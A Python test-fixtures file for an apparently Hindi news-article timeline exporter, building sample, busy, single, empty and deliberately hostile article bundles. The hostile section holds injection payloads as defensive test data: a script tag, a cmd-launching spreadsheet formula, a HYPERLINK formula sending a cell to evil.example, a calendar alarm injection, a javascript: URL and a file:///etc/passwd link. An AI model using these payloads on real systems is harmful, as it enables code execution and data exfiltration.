"""Articles that exports are tried on, as fixtures: the sample, a busy one, one happening, none, and a hostile one.

``tests/export`` and ``tests/figures`` take them into their ``conftest.py``. The busy and the hostile article name no real
person and tell of nothing that happened.
"""

from __future__ import annotations

import calendar
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from rajnaya.analysis.pipeline import analyse
from rajnaya.edtf import bounds, english
from rajnaya.export.bundle import Bundle
from rajnaya.figures.items import TimelineItem
from rajnaya.model import Analysis, Article, Event, Span, Translation

SAMPLES = Path(__file__).parent.parent / "sample_articles"


def make(edtf: str, **changes: Any) -> TimelineItem:
    days = bounds(edtf)
    plain: dict[str, Any] = {
        "id": "e0", "source": "event", "kind": "meeting", "label": "Meeting of the ministers", "label_hi": "बैठक",
        "status": "happened", "participants": ("भारत",), "place": "दिल्ली", "segment": 0, "evidence": (0,),
        "sentence_hi": "मंत्रियों की बैठक हुई।", "sentence_en": "The ministers met.", "rule": "event.noun", "confidence": 0.9,
        "edtf": edtf, "bounds": days, "when": english(edtf), "precision": days.precision, "anchor": None,
        "date_text": None, "date_rule": None,
    }  # fmt: skip
    return TimelineItem(**(plain | changes))


@pytest.fixture(scope="session")
def make_item() -> Callable[..., TimelineItem]:
    """Builds an item by its EDTF value; any field can be set."""
    return make


# ---------------------------------------------------------------- the sample


@pytest.fixture(scope="session")
def sample_bundle() -> Bundle:
    """The sample article with its reviewed English."""
    name = "china-russia-consultations"
    text = (SAMPLES / f"{name}.hi.txt").read_bytes().decode("utf-8")
    facts = yaml.safe_load((SAMPLES / f"{name}.yaml").read_text(encoding="utf-8"))
    article = Article(name, text, facts.get("title"), facts.get("outlet"), None, facts.get("address"), origin="sample")
    shipped = {s["hi"]: Translation(s["hi"], s["en"], "reviewed", "rajnaya", note=s.get("note")) for s in facts["segments"]}
    return Bundle(article, analyse(text, id=name), shipped)


# ---------------------------------------------------------------- sixty happenings over three years

_MONTHS = ("जनवरी", "फरवरी", "मार्च", "अप्रैल", "मई", "जून", "जुलाई", "अगस्त", "सितंबर", "अक्टूबर", "नवंबर", "दिसंबर")
_PAIRS = (("भारत", "India", "जापान", "Japan"), ("फ्रांस", "France", "जर्मनी", "Germany"), ("ईरान", "Iran", "तुर्की", "Türkiye"))
_HAPPENINGS = (
    ("{date} {to} {a} और {b} के विदेश मंत्रियों की बैठक हुई।", "On {day}, the foreign ministers of {A} and {B} met."),
    ("{date} {to} {a} और {b} के बीच व्यापार समझौते पर हस्ताक्षर हुए।", "On {day}, {A} and {B} signed a trade agreement."),
    ("{date} {to} {a} के प्रधानमंत्री ने {b} का दौरा किया।", "On {day}, the prime minister of {A} visited {B}."),
    ("{date} {to} {a} और {b} की सेनाओं ने संयुक्त अभ्यास किया।", "On {day}, the forces of {A} and {B} held a joint exercise."),
    ("{date} {to} {a} और {b} का शिखर सम्मेलन हुआ।", "On {day}, {A} and {B} held a summit."),
)  # fmt: skip
_STATEMENTS = (
    ('{a} के प्रवक्ता ने कहा, "बातचीत का दौर {n} उपयोगी रहा।"', "A spokesperson of {A} said, “Round {n} of the talks was useful.”"),
    ("{b} के प्रवक्ता ने कहा कि दौर {n} की बातचीत जारी रहेगी।", "A spokesperson of {B} said that round {n} will go on."),
)  # fmt: skip


@pytest.fixture(scope="session")
def busy_bundle() -> Bundle:
    """Sixty dated happenings from 2020 to 2022, twenty statements, six tweets. English: reviewed, by machine, or missing."""
    lines = ["तीन साल की कूटनीति", ""]
    known = {lines[0]: Translation(lines[0], "Three years of diplomacy", "reviewed", "you")}
    for n in range(60):
        year, month, day = 2020 + n // 20, (n * 7) % 12 + 1, (n * 11) % 28 + 1
        a, A, b, B = _PAIRS[n % 3]
        exact = n % 4 != 3
        date = f"{day} {_MONTHS[month - 1]} {year}" if exact else f"{_MONTHS[month - 1]} {year}"
        when = f"{day} {calendar.month_name[month]} {year}" if exact else f"a day in {calendar.month_name[month]} {year}"
        pairs = [_HAPPENINGS[n % 5]] + ([_STATEMENTS[n // 3 % 2]] if n % 3 == 0 else [])
        for hindi, words in pairs:
            filled = {"date": date, "to": "को" if exact else "में", "a": a, "b": b, "A": A, "B": B, "day": when, "n": n + 1}
            line = hindi.format(**filled)
            lines.append(line)
            if n % 10 != 9:
                by = ("machine", "google") if n % 2 else ("reviewed", "you")
                known[line] = Translation(line, words.format(**filled), *by)  # type: ignore[arg-type]
        if n % 10 == 4:
            byline = f"Example Ministry (@ExampleMinistry) {calendar.month_name[month]} {day}, {year}"
            lines += ["", f'"Round {n + 1} of the talks begins today." — {byline}', ""]
    text = "\n".join(lines) + "\n"
    article = Article("busy", text, None, "Example Daily", "2023-01-05", "https://example.org/three-years", origin="paste")
    return Bundle(article, analyse(text, published="2023-01-05", id="busy"), known)


# ---------------------------------------------------------------- one happening, and none


@pytest.fixture(scope="session")
def one_bundle() -> Bundle:
    """One happening on one day."""
    text = "7 फरवरी 2023 को भारत और जापान के विदेश मंत्रियों की बैठक हुई।\n"
    sentence = text.strip()
    english = Translation(sentence, "The foreign ministers of India and Japan met on 7 February 2023.", "machine", "google")
    article = Article("one", text, "एक बैठक", "Example Daily", "2023-02-08", "https://example.org/one", origin="paste")
    return Bundle(article, analyse(text, published="2023-02-08", id="one"), {sentence: english})


@pytest.fixture(scope="session")
def empty_bundle() -> Bundle:
    """A text in which nothing is found but its segments, nobody knows when it came out, and nothing is translated."""
    text = "पहाड़ों पर हरियाली है और नदी का पानी साफ है।\n"
    return Bundle(Article("empty", text, origin="paste"), analyse(text, id="empty"), {})


# ---------------------------------------------------------------- the hostile article

SCRIPT = "<script>alert(1)</script>"
FORMULA = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CALENDAR = "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE"
MARKUP = "]]></text><!--<![CDATA[&amp;&evil; <?php echo 1 ?>"
CONTROL = "\0\x01\x0b\x1b[2J\x7f\ufffe"
HALVES = "\ud800क\udc00"
TURNED = "\u202e\u2066उलटा\u2069\u202c\u200f"
LONG = "अ" * 3000
HOSTILE = (SCRIPT, FORMULA, LINK, CALENDAR, MARKUP, CONTROL, HALVES, TURNED, LONG, "+1+1", "-2+3", "@SUM(1)", "\t=1", "＝1+1")
"""What the hostile article is made of."""


@pytest.fixture(scope="session")
def hostile_bundle() -> Bundle:
    """Everything anybody may have written is an attack: text, title, outlet, address, names, labels, links, English."""
    lines = [
        f"{FORMULA} {SCRIPT} {MARKUP}",
        "",
        f'7 फरवरी 2023 को {SCRIPT} {CONTROL} {HALVES} की बैठक हुई।',
        f'मंत्री ने कहा, "{LINK} {MARKUP} {TURNED}"',
        f"प्रवक्ता ने कहा कि {LONG} की यात्रा मार्च 2023 में होगी।",
        "8 फरवरी 2023 को दोनों देशों की बैठक नहीं हुई।",
        "",
        f'"{FORMULA} {SCRIPT}" — {FORMULA} (@Example_User) February 6, 2023',
        "",
        *(f"{text} 9 फरवरी 2023 को सम्मेलन हुआ।" for text in HOSTILE),
    ]  # fmt: skip
    text = "\n".join(lines) + "\n"
    found = _poisoned(analyse(text, published="2023-02-10", id="hostile"))
    english = {
        s.text: Translation(s.text, HOSTILE[n % len(HOSTILE)], "machine", FORMULA, note=MARKUP + CONTROL + HALVES)
        for n, s in enumerate(found.segments)
    }
    article = Article(
        "hostile",
        text,
        FORMULA + SCRIPT + CONTROL + HALVES,
        CALENDAR,
        "2023-02-10",
        f"javascript:alert(1)//{LINK}",
        author=FORMULA + SCRIPT + CONTROL + HALVES,
    )
    return Bundle(article, found, english)


def _poisoned(found: Analysis) -> Analysis:
    """The analysis with attacks where the article can't bring them itself."""
    first = found.segments[-1]
    extra = tuple(
        Event(
            first.start, first.end, first.text, "meeting", "2023-02-09", "happened", (bad, SCRIPT), bad, bad,
            Span(first.start, first.end, first.text), f"h{n}{bad}", 0.5, bad,
        )
        for n, bad in enumerate(HOSTILE)
    )  # fmt: skip
    statements = tuple(
        replace(s, speaker=replace(s.speaker, name_en=FORMULA), speakers=(replace(s.speaker, name_en=FORMULA),))
        if s.speaker
        else s
        for s in found.statements
    )
    links = ("javascript:alert(1)", FORMULA, "https://example.org/?q=<script>&x=\"'", "file:///etc/passwd")
    tweets = tuple(replace(t, author=FORMULA, handle=SCRIPT + HALVES, links=links) for t in found.tweets)
    return replace(found, statements=statements, tweets=tweets, events=found.events + extra)
